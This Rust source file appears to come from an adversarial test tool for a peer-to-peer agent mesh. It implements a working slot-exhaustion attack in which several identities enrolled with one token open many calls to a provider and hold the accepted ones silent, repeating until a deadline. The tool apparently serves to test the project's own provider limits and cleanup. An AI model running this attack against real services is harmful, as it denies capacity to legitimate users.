//! Attack: accepted calls held silent, from several identities of one
//! enrollment token.
//!
//! Each identity (a key enrolled with the same multi-use token) is a raw
//! member admitted for transit at one of the provider's routers, with its
//! own relayed circuit to the provider. On it, it makes
//! `calls_per_identity` real calls (its credential in each request), and
//! once one is accepted it never sends another byte nor half-closes: the
//! provider's slot and its backend connection stay taken for as long as the
//! provider lets them. A call the provider ends, or refuses, is made again
//! (at most once per `renew_pause` per call slot) until `duration` has
//! passed or [`Progress::stop`] is called.
//!
//! Against a provider that bounds accepted calls only per caller PeerId
//! and in total, a handful of identities of one token holds every slot and
//! the members of other tokens are refused; against slots shared by token,
//! the others take the attacker's idle calls. The process running it can
//! be frozen (SIGSTOP) or killed while it holds calls: the provider must
//! then end them when it finds the connection dead.

use std::sync::Arc;
use std::sync::atomic::Ordering;
use std::time::Duration;

use agentmesh_proto::pb::credential::Credential;
use agentmesh_proto::pb::mesh::Purpose;
use agentmesh_wire::call::{self as call_wire, CallAnswer};
use anyhow::Context as _;
use futures::AsyncReadExt as _;
use libp2p::identity::Keypair;
use libp2p::{Multiaddr, PeerId};
use tokio::task::JoinSet;
use tokio::time::Instant;

use crate::counts::inc;
use crate::member::{EnrollArgs, Member, router_of};

/// Deadline of each set-up step (connect, auth, circuit, one call's
/// request and answer).
const STEP_DEADLINE: Duration = Duration::from_secs(10);
/// How often each identity's circuit is checked and re-dialed if lost.
const CIRCUIT_CHECK_EVERY: Duration = Duration::from_millis(200);

/// What to attack and how hard.
#[derive(Debug, Clone)]
pub struct HeldCalls {
    /// The router whose relay carries the circuits.
    pub router: PeerId,
    /// Its address (with or without `/p2p/ROUTER`).
    pub router_addr: Multiaddr,
    /// The provider.
    pub provider: PeerId,
    /// The service called (one the provider exposes).
    pub service: String,
    /// Accepted calls each identity holds at once.
    pub calls_per_identity: usize,
    /// How long the attack runs at most.
    pub duration: Duration,
    /// Least time between two calls of one call slot.
    pub renew_pause: Duration,
}

crate::counts::counts! {
    /// What the attack did.
    pub struct Report (live HeldCounts, attack "provider-held-calls") {
        /// Identities with a circuit to the provider.
        identities,
        /// Calls the provider accepted.
        accepted,
        /// Calls the provider refused (answered with a refusal).
        refused,
        /// Calls that failed before an answer (no stream, no answer in time).
        failed,
        /// Accepted calls the provider ended (the stream closed or failed).
        ended_by_provider,
        /// Accepted calls held now (0 once the attack returned).
        held,
        /// The most accepted calls held at once.
        held_max,
    }
}

/// Live counts of a running attack (shared with the caller, who may read
/// them while it runs and stop it early).
pub type Progress = crate::counts::Progress<HeldCounts>;

impl HeldCounts {
    fn hold(&self) {
        let now = self.held.fetch_add(1, Ordering::Relaxed) + 1;
        self.held_max.fetch_max(now, Ordering::Relaxed);
    }

    fn release(&self) {
        self.held.fetch_sub(1, Ordering::Relaxed);
    }
}

/// Runs the attack as every identity in `identities` (keys with their
/// credentials, enrolled by the caller, typically with one token); returns
/// once `attack.duration` passed or [`Progress::stop`] was called. Fails
/// only if an identity's set-up fails.
pub async fn run(
    attack: &HeldCalls,
    identities: Vec<(Keypair, Credential)>,
    progress: Arc<Progress>,
) -> anyhow::Result<Report> {
    let end = Instant::now() + attack.duration;
    let mut members = Vec::new();
    for (key, credential) in identities {
        let member = Arc::new(Member::new(key)?);
        member
            .connect(attack.router, attack.router_addr.clone(), STEP_DEADLINE)
            .await?;
        member
            .authenticate(
                attack.router,
                credential.clone(),
                Purpose::Transit,
                STEP_DEADLINE,
            )
            .await?;
        member
            .connect_through(
                attack.router,
                &attack.router_addr,
                attack.provider,
                STEP_DEADLINE,
            )
            .await
            .with_context(|| format!("identity {}: no circuit", member.peer_id))?;
        inc(&progress.counts.identities);
        members.push((member, credential));
    }
    tracing::info!(
        provider = %attack.provider,
        identities = members.len(),
        calls_per_identity = attack.calls_per_identity,
        "hostile members: circuits to the provider up, holding calls"
    );
    let mut tasks = JoinSet::new();
    for (member, credential) in &members {
        for _ in 0..attack.calls_per_identity {
            let caller = Caller {
                member: member.clone(),
                credential: credential.clone(),
                attack: attack.clone(),
                end,
                progress: progress.clone(),
            };
            tasks.spawn(caller.run());
        }
    }
    let mut stop = progress.stopped();
    loop {
        tokio::select! {
            _ = tokio::time::sleep_until(end) => break,
            _ = stop.wait_for(|s| *s) => break,
            _ = tokio::time::sleep(CIRCUIT_CHECK_EVERY) => {}
        }
        for (member, _) in &members {
            if !member.is_connected(&attack.provider) {
                let redial = member
                    .connect_through(
                        attack.router,
                        &attack.router_addr,
                        attack.provider,
                        STEP_DEADLINE,
                    )
                    .await;
                if let Err(e) = redial {
                    tracing::debug!(error = %e, "hostile member: circuit re-dial failed");
                }
            }
        }
    }
    progress.stop();
    while tasks.join_next().await.is_some() {}
    Ok(progress.report())
}

/// One call slot of one identity: call, hold the accepted call silent
/// until the provider ends it, call again.
struct Caller {
    member: Arc<Member>,
    credential: Credential,
    attack: HeldCalls,
    end: Instant,
    progress: Arc<Progress>,
}

impl Caller {
    async fn run(self) {
        let counts = &self.progress.counts;
        let mut stop = self.progress.stopped();
        loop {
            if *stop.borrow() || Instant::now() >= self.end {
                return;
            }
            let next = Instant::now() + self.attack.renew_pause;
            let call = call_wire::request(
                self.member.control(),
                self.attack.provider,
                &self.attack.service,
                self.credential.clone(),
                STEP_DEADLINE,
            );
            let answered = tokio::select! {
                r = call => r,
                _ = stop.wait_for(|s| *s) => return,
            };
            match answered {
                Ok((CallAnswer::Accepted, mut s, _)) => {
                    inc(&counts.accepted);
                    counts.hold();
                    // Silent: read only, to learn when the provider ends it.
                    let mut buf = [0u8; 512];
                    let ended = loop {
                        tokio::select! {
                            r = s.read(&mut buf) => match r {
                                Ok(0) | Err(_) => break true,
                                Ok(_) => {}
                            },
                            _ = tokio::time::sleep_until(self.end) => break false,
                            _ = stop.wait_for(|s| *s) => break false,
                        }
                    };
                    counts.release();
                    if ended {
                        inc(&counts.ended_by_provider);
                    }
                }
                Ok((CallAnswer::Refused(..), _, _)) => inc(&counts.refused),
                Err(e) => {
                    tracing::debug!(error = %e, "hostile member: call failed");
                    inc(&counts.failed);
                }
            }
            tokio::select! {
                _ = tokio::time::sleep_until(next.min(self.end)) => {}
                _ = stop.wait_for(|s| *s) => return,
            }
        }
    }
}

/// `agentmesh-hostile provider-held-calls`: enroll several identities
/// with one member token, then hold accepted calls to a provider's service
/// through one router.
#[derive(Debug, clap::Args)]
pub struct Args {
    /// Where to enroll.
    #[command(flatten)]
    pub enroll: EnrollArgs,
    /// The router to relay through, a multiaddr ending in /p2p/ROUTER_ID.
    #[arg(long)]
    pub router: Multiaddr,
    /// The provider to attack, a PeerId.
    #[arg(long)]
    pub provider: PeerId,
    /// The service to call.
    #[arg(long)]
    pub service: String,
    /// Identities enrolled with the token, identities.
    #[arg(long, default_value_t = 8)]
    pub identities: usize,
    /// Accepted calls each identity holds at once, calls.
    #[arg(long, default_value_t = 32)]
    pub calls_per_identity: usize,
    /// How long the attack runs, seconds.
    #[arg(long, default_value_t = 60)]
    pub duration_secs: u64,
    /// Least time between two calls of one call slot, milliseconds.
    #[arg(long, default_value_t = 100)]
    pub renew_pause_ms: u64,
}

impl Args {
    /// Enrolls the identities with the token and runs the attack.
    pub async fn run(self) -> anyhow::Result<Report> {
        let router = router_of(&self.router)?;
        let mut identities = Vec::new();
        for _ in 0..self.identities.max(1) {
            identities.push(self.enroll.enroll().await?);
        }
        let attack = HeldCalls {
            router,
            router_addr: self.router.clone(),
            provider: self.provider,
            service: self.service,
            calls_per_identity: self.calls_per_identity,
            duration: Duration::from_secs(self.duration_secs),
            renew_pause: Duration::from_millis(self.renew_pause_ms),
        };
        run(&attack, identities, Arc::new(Progress::default())).await
    }
}
